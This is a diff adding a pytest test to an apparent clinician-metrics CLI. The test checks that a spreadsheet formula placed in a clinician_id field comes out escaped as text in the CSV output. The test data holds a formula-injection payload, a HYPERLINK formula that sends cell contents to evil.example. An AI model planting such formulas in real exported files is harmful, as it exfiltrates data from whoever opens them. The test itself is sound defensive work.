@@ -152,3 +152,23 @@ def test_invalid_option_is_one_clear_line_and_exit_2(
     assert line.startswith(f"Error: invalid value for {named}: ")
     assert reason in line
     assert sorted(p.name for p in tmp_path.iterdir()) == ["log"]  # no output, no sidecar
+
+
+def test_metrics_csv_keeps_a_formula_like_clinician_id_as_text(tmp_path: Path) -> None:
+    """``-o metrics.csv`` opened in a spreadsheet: an id like =HYPERLINK(...) stays text."""
+    import csv
+
+    d = _log(tmp_path)
+    formula = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
+    first = str(pd.read_parquet(d / "events.parquet")["clinician_id"].iloc[0])
+    for name in ("events.parquet", "schedule.parquet"):
+        frame = pd.read_parquet(d / name)
+        frame["clinician_id"] = frame["clinician_id"].astype(str).replace(first, formula)
+        frame.to_parquet(d / name, index=False)
+    out = tmp_path / "m.csv"
+    result = runner.invoke(app, _metrics_args(d, out))
+    assert result.exit_code == 0, result.output
+    with out.open(newline="", encoding="utf-8") as fh:
+        ids = {row["clinician_id"] for row in csv.DictReader(fh)}
+    assert "'" + formula in ids
+    assert formula not in ids
